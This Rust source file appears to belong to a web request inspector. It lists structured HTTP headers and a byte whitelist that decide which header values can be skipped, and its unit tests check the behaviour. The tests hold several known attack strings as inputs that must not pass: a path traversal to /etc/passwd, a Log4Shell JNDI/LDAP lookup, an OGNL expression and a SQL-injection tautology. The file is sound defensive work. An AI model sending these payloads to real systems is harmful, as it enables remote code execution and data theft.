//! Which header values need no judging. Nobody evaluates `Accept-Language: de, en;q=0.8`; everybody sends it.
//! A header is passed over only while its value stays within the grammar of such headers: what an attack needs does not.

/// Headers whose values are lists of tokens, numbers and dates, in lower case, sorted.
const STRUCTURED: &[&str] = &[
    "accept",
    "accept-charset",
    "accept-encoding",
    "accept-language",
    "age",
    "cache-control",
    "connection",
    "content-length",
    "content-type",
    "date",
    "dnt",
    "expect",
    "host",
    "if-match",
    "if-modified-since",
    "if-none-match",
    "if-range",
    "if-unmodified-since",
    "keep-alive",
    "max-forwards",
    "origin",
    "pragma",
    "priority",
    "proxy-connection",
    "range",
    "save-data",
    "te",
    "trailer",
    "transfer-encoding",
    "upgrade",
    "upgrade-insecure-requests",
];

/// Longest structured value that is passed over; browsers stay far below it.
const VALUE_BYTES_MAX: usize = 512;

const NAME_BYTES_MAX: usize = 32;

/// Whether nothing in this header can be evidence.
pub(super) fn is_plain(name: &[u8], value: &[u8]) -> bool {
    value.is_empty() || (is_structured(name) && value.len() <= VALUE_BYTES_MAX && is_tame(value))
}

fn is_structured(name: &[u8]) -> bool {
    let mut lower = [0; NAME_BYTES_MAX];
    let Some(lower) = lower.get_mut(..name.len()) else { return false };
    for (to, from) in lower.iter_mut().zip(name) {
        *to = from.to_ascii_lowercase();
    }
    let lower = &*lower;
    lower.starts_with(b"sec-") || STRUCTURED.binary_search_by(|known| known.as_bytes().cmp(lower)).is_ok()
}

/// Tokens, quoted tokens, parameters, URLs' origins: no byte that opens code, markup, a command or an escape, and no `..`.
fn is_tame(value: &[u8]) -> bool {
    let mut last = 0;
    value.iter().all(|&byte| {
        let dots = last == b'.' && byte == b'.';
        last = byte;
        !dots && matches!(byte, b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b' ' | b'-' | b'_' | b'.' | b',' | b';' | b'=' | b'*' | b'/' | b'+' | b':' | b'"' | b'?' | b'(' | b')' | b'~' | b'[' | b']')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_sorted_for_the_search() {
        assert!(STRUCTURED.is_sorted() && STRUCTURED.iter().all(|name| name.len() <= NAME_BYTES_MAX));
    }

    #[test]
    fn what_browsers_send_is_plain() {
        for (name, value) in [
            ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
            ("Sec-CH-UA", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\""),
            ("If-None-Match", "W/\"33a64df5\""),
            ("host", "[2001:db8::1]:8080"),
            ("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary5748f39329aafbd6"),
        ] {
            assert!(is_plain(name.as_bytes(), value.as_bytes()), "{name}: {value}");
        }
    }

    #[test]
    fn nothing_else_is() {
        for (name, value) in [
            ("User-Agent", "Mozilla/5.0"),
            ("X-Api-Version", "1"),
            ("Accept", "../../../etc/passwd"),
            ("Accept-Language", "${jndi:ldap://x/a}"),
            ("Content-Type", "%{(#_='multipart/form-data')}"),
            ("If-None-Match", "1' or '1'='1"),
        ] {
            assert!(!is_plain(name.as_bytes(), value.as_bytes()), "{name}: {value}");
        }
    }
}
